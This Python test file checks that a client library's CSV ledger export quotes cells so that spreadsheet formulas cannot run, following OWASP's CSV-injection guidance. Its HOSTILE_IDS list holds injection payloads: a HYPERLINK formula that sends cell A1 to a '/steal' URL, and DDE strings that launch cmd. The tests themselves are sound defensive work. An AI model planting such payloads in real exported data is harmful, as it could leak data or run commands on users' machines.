"""``Ledger.to_csv()`` is opened in spreadsheets: no cell the service wrote can run as a formula there
(OWASP's CSV-injection guidance), and amounts stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from dezgo import Charge, Dezgo, Ledger
from dezgo.testing import Simulator

HOSTILE_IDS = [
    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _headers(user_id: str, job_id: str, balance: str):
    """A middleware for the simulator: its answers carry these ids and this balance."""
    replaced = {
        b"x-dezgo-auth-userid": user_id.encode(),
        b"x-dezgo-job-id": job_id.encode(),
        b"x-dezgo-balance-total-usd": balance.encode(),
    }

    def middleware(app):
        async def wrapped(scope, receive, send):
            async def rewriting(message):
                if message["type"] == "http.response.start":
                    headers = [(k, v) for k, v in message["headers"] if k.lower() not in replaced]
                    message["headers"] = [*headers, *replaced.items()]
                await send(message)

            await app(scope, receive, rewriting)

        return wrapped

    return middleware


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_ids_from_the_service_cannot_run_as_formulas_and_amounts_stay_numbers(hostile):
    middleware = _headers(hostile, hostile, "-0.25")
    with (
        Simulator(middleware=middleware) as sim,
        Dezgo(api_key=sim.api_key, base_url=sim.url, max_retries=0) as client,
    ):
        client.text2image(prompt="a ledger", width=320, height=320)
        (row,) = _cells(client.ledger.to_csv())
    charge = client.ledger.entries[0]
    assert charge.user_id == hostile, "the ledger itself keeps what the service said"
    for field in ("user_id", "job_id"):
        assert row[field][0] == "'", f"{field} {row[field]!r} would be read as a formula"
        assert row[field][1:] == getattr(charge, field), "nothing but the quote is added"
    assert row["balance_total_usd"] == "-0.25", "a negative balance is a number, not a formula"
    assert Decimal(row["amount_usd"]) == sim.charges[0].amount_usd


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_leading_character_owasp_lists_is_neutralised(lead):
    ledger = Ledger()
    ledger.record(Charge(operation=f"{lead}op", user_id=f"{lead}1+1", job_id=f"{lead}job"))
    (row,) = _cells(ledger.to_csv())
    assert [row["operation"], row["user_id"], row["job_id"]] == [f"'{lead}op", f"'{lead}1+1", f"'{lead}job"]


def test_plain_cells_and_amounts_are_written_as_they_are():
    ledger = Ledger()
    ledger.record(
        Charge(
            operation="text2image",
            amount_usd=Decimal("0.0038"),
            balance_total_usd=Decimal("-1.5"),
            balance_debits_usd=Decimal("0"),
            balance_index=7,
            user_id="user-1",
            job_id="a-b-c",
        )
    )
    (row,) = _cells(ledger.to_csv())
    assert (row["operation"], row["user_id"], row["job_id"]) == ("text2image", "user-1", "a-b-c")
    assert (row["amount_usd"], row["balance_total_usd"], row["balance_index"]) == ("0.0038", "-1.5", "7")
    assert ledger.to_json().count("'") == 0, "the JSON export is data, not a sheet: left alone"


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own():
    ledger = Ledger()
    for inside in ("x\r=1+1", "x\n=1+1", "x\r\n@SUM(1)"):
        ledger.record(Charge(operation="text2image", job_id=inside))
    rows = _cells(ledger.to_csv())
    assert [row["job_id"] for row in rows] == ["x\r=1+1", "x\n=1+1", "x\r\n@SUM(1)"]
    text = ledger.to_csv()
    assert text.startswith("operation,")
    assert text.split("\r\n", 1)[0].count("\n") == 0
    assert text.endswith("\r\n"), "rows end as RFC 4180 says"
